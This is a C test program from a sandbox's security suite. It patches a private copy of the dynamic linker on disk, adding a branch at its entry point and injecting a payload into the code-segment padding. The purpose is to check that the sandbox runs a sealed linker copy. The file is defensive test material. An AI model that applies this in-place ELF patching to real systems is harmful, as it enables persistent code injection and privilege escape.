/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Class 3 across execve (docs/security.md): a program that ARA's execve
 * starts runs its dynamic linker first, before its libara exists, while
 * ARA's boot code performs every call the inherited filter traps, with no
 * open check (libara/src/region/boot.c). ARA hands the new image a sealed
 * copy of the dynamic linker this process runs, kept at initialisation
 * (libara/src/dom0/exec_files.c): rewriting the file in place, as root or
 * the file's owner can, must change nothing the next image runs.
 *
 * This App names a private copy of ld.so (linked with --dynamic-linker;
 * ldso_fixture.sh makes it) and runs as three images of one process:
 *   1. started by ara-loader: ld.so is the program the kernel executed,
 *      which it keeps from writers (ETXTBSY); the App executes itself;
 *   2. started by ARA's execve: the App rewrites the copy in place (same
 *      inode), a payload (attack_ldso_payload.S) in the padding after its
 *      code segment and a branch to it at its entry point, and executes
 *      itself again;
 *   3. the file still holds the payload; if the payload ran, it opened
 *      /proc/self/mem before ARA existed, and the App reads DOM0 through
 *      that descriptor.
 * Under ARA the third image runs the kept copy: no payload, no descriptor.
 * Against ldso-from-file (the new image runs the file as it is at execve)
 * the payload runs and the App prints DOM0's canary.
 *
 * usage: attack_ldso exec_ldso_rewritten (the App names its later stages
 * exec_ldso_rewritten_2 and _3 itself)
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"
#include "attack_ldso.h"

#define PAGE 4096u
#define MAX_PHDRS 16u

extern const char ara_test_ldso_payload[], ara_test_ldso_payload_resume[],
	ara_test_ldso_payload_end[];

static const char *self;   /* argv[0]: this App's path, as ara-loader and execve give it */
static const char *interp; /* the dynamic linker this App names */

static __attribute__((noreturn)) void fail(const char *what)
{
	printf("FAIL: %s: %s\n", what, strerror(errno));
	_exit(2);
}

/* The main program's PT_INTERP (the first object dl_iterate_phdr reports). */
static int find_interp(struct dl_phdr_info *info, size_t size, void *ctx)
{
	(void)size, (void)ctx;
	for (unsigned int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_INTERP)
			interp = (const char *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
	return 1;
}

static int exec_self(const char *stage)
{
	char *const argv[] = { (char *)self, (char *)stage, NULL };

	execv(self, argv);
	printf("FAIL: execve of %s for %s: %s\n", self, stage, strerror(errno));
	return 1;
}

/* ld.so's header and its executable segment, from its file. */
static void read_ldso(int fd, Elf64_Ehdr *eh, Elf64_Phdr *code)
{
	Elf64_Phdr ph[MAX_PHDRS];

	if (pread(fd, eh, sizeof(*eh), 0) != sizeof(*eh) || memcmp(eh->e_ident, ELFMAG, SELFMAG) ||
	    eh->e_phentsize != sizeof(Elf64_Phdr) || eh->e_phnum > MAX_PHDRS ||
	    pread(fd, ph, eh->e_phnum * sizeof(*ph), (off_t)eh->e_phoff) !=
		    (ssize_t)(eh->e_phnum * sizeof(*ph)))
		fail("reading the dynamic linker's headers");
	for (unsigned int i = 0; i < eh->e_phnum; i++)
		if (ph[i].p_type == PT_LOAD && (ph[i].p_flags & PF_X)) {
			*code = ph[i];
			return;
		}
	errno = ENOEXEC;
	fail("the dynamic linker has no executable segment");
}

static int stage_start(void)
{
	int fd = open(interp, O_RDWR);

	/* Evidence only: why the first image's copy is read from the file it runs. */
	printf("ara-evidence: exec_ldso_rewritten: image 1 runs %s; writing it: %s\n", interp,
	       fd < 0 ? strerror(errno) : "allowed");
	if (fd >= 0)
		close(fd);
	return exec_self("exec_ldso_rewritten_2");
}

/* A branch from from to to: b imm26. */
static uint32_t branch(uint64_t from, uint64_t to)
{
	return 0x14000000u | ((uint32_t)(((int64_t)to - (int64_t)from) / 4) & 0x3ffffffu);
}

/* True if the instruction depends on where it is (branches, adr, adrp, literal loads). */
static int pc_relative(uint32_t insn)
{
	return (insn & 0x7c000000u) == 0x14000000u || (insn & 0x1f000000u) == 0x10000000u ||
	       (insn & 0x3b000000u) == 0x18000000u || (insn & 0x7c000000u) == 0x34000000u ||
	       (insn & 0xff000010u) == 0x54000000u;
}

/* Where the payload goes: its file offset; its address in *vaddr. */
static uint64_t payload_at(const Elf64_Phdr *seg, uint64_t *vaddr)
{
	const uint64_t at = (seg->p_offset + seg->p_filesz + 15) & ~(uint64_t)15;

	*vaddr = at - seg->p_offset + seg->p_vaddr;
	return at;
}

/*
 * The payload goes where the executable segment's file bytes end, up to
 * the end of their last page: zeros in the file, mapped executable with
 * the segment. ld.so's first instruction moves into it and becomes a
 * branch to it (the entry address stays: ld.so compares it with its own).
 */
static int stage_rewrite(void)
{
	const size_t len = (size_t)(ara_test_ldso_payload_end - ara_test_ldso_payload);
	const size_t resume = (size_t)(ara_test_ldso_payload_resume - ara_test_ldso_payload);
	unsigned char code[256], was[sizeof(code)];
	uint64_t at, room, vaddr, entry_at;
	uint32_t first, b;
	Elf64_Ehdr eh;
	Elf64_Phdr seg;
	struct stat st;
	int fd = open(interp, O_RDWR);

	if (fd < 0 || fstat(fd, &st))
		fail("opening the dynamic linker's file for writing");
	read_ldso(fd, &eh, &seg);
	at = payload_at(&seg, &vaddr);
	room = ((seg.p_offset + seg.p_filesz + PAGE - 1) & ~(uint64_t)(PAGE - 1)) - at;
	entry_at = eh.e_entry - seg.p_vaddr + seg.p_offset;
	if (len > sizeof(code) || room < len || pread(fd, was, len, (off_t)at) != (ssize_t)len) {
		errno = ENOSPC;
		fail("no room for the payload after the dynamic linker's code");
	}
	for (size_t i = 0; i < len; i++)
		if (was[i]) {
			errno = EEXIST;
			fail("the bytes after the dynamic linker's code are not padding");
		}
	if (pread(fd, &first, sizeof(first), (off_t)entry_at) != sizeof(first))
		fail("reading the dynamic linker's first instruction");
	if (pc_relative(first)) {
		errno = ENOEXEC;
		fail("the dynamic linker's first instruction cannot move");
	}
	memcpy(code, ara_test_ldso_payload, len);
	memcpy(code + resume, &first, sizeof(first));
	b = branch(vaddr + resume + 4, eh.e_entry + 4);
	memcpy(code + resume + 4, &b, sizeof(b));
	printf("ara-evidence: exec_ldso_rewritten: rewriting %s in place (inode %llu): its entry "
	       "0x%llx branches to a payload at 0x%llx\n",
	       interp, (unsigned long long)st.st_ino, (unsigned long long)eh.e_entry,
	       (unsigned long long)vaddr);
	b = branch(eh.e_entry, vaddr);
	if (pwrite(fd, code, len, (off_t)at) != (ssize_t)len ||
	    pwrite(fd, &b, sizeof(b), (off_t)entry_at) != sizeof(b))
		fail("rewriting the dynamic linker's file");
	close(fd);
	return exec_self("exec_ldso_rewritten_3");
}

static ssize_t read_mem(void *dst, uint64_t src, size_t len)
{
	return pread(ATTACK_LDSO_MEM_FD, dst, len, (off_t)src);
}

static int stage_judge(void)
{
	Elf64_Ehdr eh;
	Elf64_Phdr seg;
	char fd_path[32], link[64];
	uint64_t vaddr;
	uint32_t first;
	ssize_t n;
	int fd = open(interp, O_RDONLY);

	if (fd < 0)
		fail("opening the dynamic linker's file");
	read_ldso(fd, &eh, &seg);
	if (pread(fd, &first, sizeof(first), (off_t)(eh.e_entry - seg.p_vaddr + seg.p_offset)) !=
	    sizeof(first))
		fail("reading the dynamic linker's first instruction");
	close(fd);
	payload_at(&seg, &vaddr);
	if (first != branch(eh.e_entry, vaddr)) {
		printf("FAIL: the dynamic linker's file was not rewritten (first word 0x%08x)\n", first);
		return 1;
	}
	if (fcntl(ATTACK_LDSO_MEM_FD, F_GETFD) < 0) {
		printf("ara-evidence: exec_ldso_rewritten: the file's entry branches to the payload "
		       "(0x%08x), yet this image ran ARA's copy: nothing ran before ARA\n",
		       first);
		return 0;
	}
	snprintf(fd_path, sizeof(fd_path), "/proc/self/fd/%d", ATTACK_LDSO_MEM_FD);
	n = readlink(fd_path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	printf("the payload's descriptor %d, opened before ARA: %s\n", ATTACK_LDSO_MEM_FD, link);
	attack_exploit_reads(read_mem);
	return 1;
}

static const struct attack_entry attacks[] = {
	{ "exec_ldso_rewritten", stage_start },
	{ "exec_ldso_rewritten_2", stage_rewrite },
	{ "exec_ldso_rewritten_3", stage_judge },
};

int main(int argc, char **argv)
{
	self = argv[0];
	dl_iterate_phdr(find_interp, NULL);
	if (!interp) {
		printf("FAIL: this App names no dynamic linker\n");
		return 2;
	}
	return attack_main(argc, argv, attacks, sizeof(attacks) / sizeof(attacks[0]));
}
